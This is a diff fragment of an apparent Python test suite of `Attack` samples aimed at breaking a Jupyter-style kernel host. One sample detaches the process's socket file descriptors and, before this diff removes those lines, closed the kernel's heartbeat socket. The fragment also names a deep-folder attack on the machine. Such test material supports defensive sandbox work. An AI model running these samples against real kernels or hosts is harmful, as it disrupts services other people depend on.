@@ -137,7 +137,6 @@ time.sleep(3600)
     "\ntime.sleep(3600)"))),
     Attack(HARMING, "a heart that takes no call", harms=HOST, before="""
 import os, socket, time
-from ipykernel.kernelapp import IPKernelApp
 kept = []
 for fd in map(int, os.listdir("/proc/self/fd")):
     try:
@@ -146,9 +145,6 @@ for fd in map(int, os.listdir("/proc/self/fd")):
         if not one.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
             kept.pop().detach()
     except OSError: pass
-heart = IPKernelApp.instance().heartbeat
-heart.socket.close(0)
-heart.context.destroy(0)
 time.sleep(3600)
 """),
     Attack(HARMING, "folders deeper than any path", harms=MACHINE, before="""
